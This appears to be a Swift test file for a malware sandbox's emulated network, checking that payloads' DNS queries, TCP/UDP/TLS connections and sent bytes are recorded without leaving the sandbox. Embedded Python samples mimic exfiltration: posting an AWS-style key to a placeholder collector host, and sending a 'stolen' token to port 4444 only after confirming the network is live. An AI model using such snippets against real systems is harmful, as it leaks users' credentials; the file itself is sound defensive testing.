@testable import AirlockSandbox
import AirlockTrace
import Foundation
import Testing

#if canImport(Glibc)
    import Glibc
    import AirlockTestSupport
#endif

/// The emulated network (issue 15): payloads' connections succeed into the supervisor's sink, their DNS questions
/// are answered, what they send is recorded, and nothing leaves the sandbox's namespace. Real sandboxes, made-up
/// names (`*.example.invalid`) and documentation addresses only.
@Suite("Emulated network", .serialized)
struct EmulatedNetworkTests {
    static func flow(_ r: SandboxResult, port: UInt16) throws -> NetworkExchange {
        try #require(r.network.first { $0.port == port }, "no flow to port \(port): \(r.network) \(r.out) \(r.err)")
    }

    @Test("an HTTP POST with a body: resolved, connected, answered 200; request, body and name recorded")
    func httpPost() throws {
        let r = try runPython(
            """
            import http.client
            c = http.client.HTTPConnection("collector.example.invalid", 80, timeout=5)
            c.request("POST", "/collect?id=7", body=b"user=alice&key=AKIAEXAMPLE", headers={"X-Probe": "1"})
            resp = c.getresponse()
            print("status", resp.status, resp.read())
            """)
        #expect(r.out.contains("status 200"), "\(r.out) \(r.err)")
        let flow = try EmulatedNetworkTests.flow(r, port: 80)
        #expect(flow.transport == .tcp)
        #expect(flow.name == "collector.example.invalid")
        let text = String(decoding: flow.bytes, as: UTF8.self)
        #expect(text.hasPrefix("POST /collect?id=7 HTTP/1.1\r\n"))
        #expect(text.contains("user=alice&key=AKIAEXAMPLE"))
        #expect(r.dnsQuestions.contains { $0.name == "collector.example.invalid" && $0.type == "A" })
        let connect = try #require(r.events("connect").first { $0.args.port == 80 })
        #expect(connect.action == .allowed && connect.rule == .notify("network"))
        #expect(flow.seq == connect.seq)
        #expect(flow.address == connect.args.address)
    }

    @Test("TLS: the ClientHello's SNI is recorded; the handshake fails as against a server that will not talk")
    func tlsClientHello() throws {
        let r = try runPython(
            """
            import socket, ssl
            ctx = ssl.create_default_context()
            try:
                with socket.create_connection(("secure.example.invalid", 443), timeout=5) as s:
                    print("peer", s.getpeername()[1])
                    ctx.wrap_socket(s, server_hostname="secure.example.invalid")
            except ssl.SSLError as e:
                print("ssl error", type(e).__name__)
            """)
        #expect(r.out.contains("peer 443"), "\(r.out) \(r.err)")
        #expect(r.out.contains("ssl error"), "\(r.out) \(r.err)")
        let flow = try EmulatedNetworkTests.flow(r, port: 443)
        #expect(NetworkProtocols.tlsClientHello(flow.bytes)?.serverName == "secure.example.invalid")
        #expect(flow.name == "secure.example.invalid")
    }

    @Test("a DNS lookup then a connect: stable public-looking addresses, A and AAAA, and getpeername agrees")
    func dnsThenConnect() throws {
        let r = try runPython(
            """
            import socket
            a = socket.gethostbyname("api.example.invalid")
            b = socket.gethostbyname("api.example.invalid")
            c = socket.gethostbyname("other.example.invalid")
            six = socket.getaddrinfo("api.example.invalid", 443, socket.AF_INET6)[0][4][0]
            print("same", a == b, "distinct", a != c, "six", ":" in six)
            s = socket.create_connection((a, 8443), timeout=5)
            print("peer", s.getpeername() == (a, 8443), "first", a.split(".")[0])
            print("local", s.getsockname()[0].startswith("172.31."))
            s.sendall(b"hello over tcp")
            s.close()
            """)
        #expect(r.out.contains("same True distinct True six True"), "\(r.out) \(r.err)")
        #expect(r.out.contains("peer True"), "\(r.out)")
        // The connection's own address is a private host address, not loopback.
        #expect(r.out.contains("local True"), "\(r.out)")
        // Not a private, loopback or documentation range: what a real resolver gives for a public name.
        let first = r.out.split(separator: "first ").last.map { Int($0.prefix { $0.isNumber }) ?? 0 } ?? 0
        #expect(![0, 10, 127, 192, 198, 203].contains(first), "\(r.out)")
        let flow = try EmulatedNetworkTests.flow(r, port: 8443)
        #expect(flow.name == "api.example.invalid")
        #expect(flow.bytes == Array("hello over tcp".utf8))
        #expect(r.dnsQuestions.contains { $0.name == "api.example.invalid" && $0.type == "AAAA" })
    }

    @Test("UDP sendto and IPv6: both recorded with their address and port")
    func udpAndIPv6() throws {
        let r = try runPython(
            """
            import socket
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            print("udp", u.sendto(b"datagram-one", ("203.0.113.7", 9999)))
            u.sendto(b"datagram-two", ("203.0.113.7", 9999))
            s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            s.settimeout(5)
            s.connect(("2001:db8::7", 8080))
            s.sendall(b"over v6")
            print("v6 peer", s.getpeername()[0])
            s.close()
            """)
        #expect(r.out.contains("udp 12"), "\(r.out) \(r.err)")
        #expect(r.out.contains("v6 peer 2001:db8::7"), "\(r.out) \(r.err)")
        let udp = try EmulatedNetworkTests.flow(r, port: 9999)
        #expect(udp.transport == .udp && udp.address == "203.0.113.7")
        #expect(udp.bytes == Array("datagram-onedatagram-two".utf8))
        let v6 = try EmulatedNetworkTests.flow(r, port: 8080)
        #expect(v6.address == "2001:db8::7" && v6.bytes == Array("over v6".utf8))
    }

    @Test("nothing reaches the host: a connect to the host's own loopback listener lands in the sink")
    func hostLoopbackUntouched() throws {
        let listener = try LoopbackListener()
        let r = try runPython(
            """
            import socket
            s = socket.create_connection(("127.0.0.1", \(listener.port)), timeout=5)
            s.sendall(b"for the host")
            print("connected")
            s.close()
            """)
        #expect(r.out.contains("connected"), "\(r.out) \(r.err)")
        #expect(!listener.sawConnection())
        let flow = try EmulatedNetworkTests.flow(r, port: listener.port)
        #expect(flow.address == "127.0.0.1" && flow.bytes == Array("for the host".utf8))
    }

    @Test("a flood of connections and bytes stays within the sink's bounds and the run ends")
    func flood() throws {
        let started = monotonicNow()
        let r = try runPython(
            """
            import socket
            opened = 0
            for i in range(400):
                try:
                    s = socket.socket()
                    s.settimeout(2)
                    s.connect(("198.51.100.%d" % (i % 250 + 1), 1000 + i % 300))
                    s.send(b"x" * 20000)
                    s.close()
                    opened += 1
                except OSError:
                    pass
            # Past the sink's port budget a port is closed (refused), as on a host with nothing listening there.
            try:
                socket.create_connection(("198.51.100.1", 7000), timeout=2)
                print("past the budget: connected")
            except ConnectionRefusedError:
                print("past the budget: refused")
            big = socket.create_connection(("198.51.100.1", 1000), timeout=2)
            sent = 0
            try:
                while sent < 40_000_000:
                    sent += big.send(b"y" * 65536)
            except OSError:
                pass
            print("opened", opened, "sent", sent)
            """, timeout: 60)
        // 300 ports, 255 of them in the sink's budget (DNS has one): 45 connections refused, the rest served.
        #expect(r.out.contains("opened 355"), "\(r.out) \(r.err)")
        // The big flow is read until the sink's drain bound, then cut.
        let sent = Int(r.out.split(separator: "sent ").last?.prefix { $0.isNumber } ?? "") ?? 0
        #expect(sent >= NetworkSink.Limits().drainBytes && sent < 40_000_000, "\(r.out)")
        #expect(r.out.contains("past the budget: refused"), "\(r.out)")
        let limits = NetworkSink.Limits()
        #expect(r.network.count <= limits.flows)
        #expect(r.network.allSatisfy { $0.bytes.count <= limits.bytesPerFlow })
        let beyondGuaranteed = r.network.reduce(0) { $0 + max(0, $1.bytes.count - limits.guaranteedBytesPerFlow) }
        #expect(beyondGuaranteed <= limits.totalBytes)
        // Every flow keeps its first bytes, however much the ones before it took.
        #expect(r.network.filter { $0.port != 53 }.allSatisfy { $0.bytes.count >= limits.guaranteedBytesPerFlow })
        #expect(r.network.contains { $0.droppedBytes > 0 })
        #expect(monotonicNow() - started < 60_000_000_000)
    }

    @Test("a payload gated on the network working acts: create_connection and DNS succeed")
    func gatedOnNetwork() throws {
        let r = try runPython(
            """
            import socket
            def online():
                try:
                    socket.getaddrinfo("pypi.org", 443)
                    socket.create_connection(("pypi.org", 443), timeout=3).close()
                    return True
                except OSError:
                    return False
            if online():
                s = socket.create_connection(("drop.example.invalid", 4444), timeout=3)
                s.sendall(b"STOLEN hf_exampletoken")
                print("acted")
            else:
                print("stayed quiet")
            """)
        #expect(r.out.contains("acted"), "\(r.out) \(r.err)")
        let flow = try EmulatedNetworkTests.flow(r, port: 4444)
        #expect(flow.name == "drop.example.invalid" && flow.bytes == Array("STOLEN hf_exampletoken".utf8))
        #expect(r.dnsQuestions.contains { $0.name == "pypi.org" })
    }

    @Test("DNS over TCP and a raw UDP query are answered; every question recorded")
    func rawDNS() throws {
        let r = try runPython(
            """
            import socket, struct
            def query(name, qtype):
                q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
                for label in name.split("."):
                    q += bytes([len(label)]) + label.encode()
                return q + b"\\0" + struct.pack(">HH", qtype, 1)
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.settimeout(3)
            u.sendto(query("txt.example.invalid", 16), ("127.0.0.53", 53))
            answer, source = u.recvfrom(512)
            print("udp", answer[:2] == b"\\x12\\x34", struct.unpack(">H", answer[6:8])[0], source[0])
            t = socket.create_connection(("127.0.0.53", 53), timeout=3)
            q = query("tcp.example.invalid", 1)
            t.sendall(struct.pack(">H", len(q)) + q)
            n = struct.unpack(">H", t.recv(2))[0]
            a = t.recv(n)
            print("tcp", struct.unpack(">H", a[6:8])[0], len(a[-4:]))
            """)
        #expect(r.out.contains("udp True 0 127.0.0.53"), "\(r.out) \(r.err)")
        #expect(r.out.contains("tcp 1 4"), "\(r.out) \(r.err)")
        #expect(r.dnsQuestions.contains { $0.name == "txt.example.invalid" && $0.type == "TXT" })
        #expect(r.dnsQuestions.contains { $0.name == "tcp.example.invalid" && $0.type == "A" })
    }

    @Test("without an emulate rule the network is refused as before")
    func denyRuleRefuses() throws {
        let profile = try editedProfile { object in
            editSection(&object) { section in
                var rules = section["notify"] as! [[String: Any]]
                for i in rules.indices where rules[i]["id"] as? String == "network" { rules[i]["action"] = "deny" }
                section["notify"] = rules
            }
        }
        let r = try runPython(
            """
            import socket
            try:
                socket.create_connection(("203.0.113.7", 80), timeout=2)
                print("connected")
            except OSError as e:
                print("refused", e.errno)
            """, profile: profile)
        #expect(r.out.contains("refused 13"), "\(r.out) \(r.err)")
        #expect(r.network.isEmpty)
    }
}
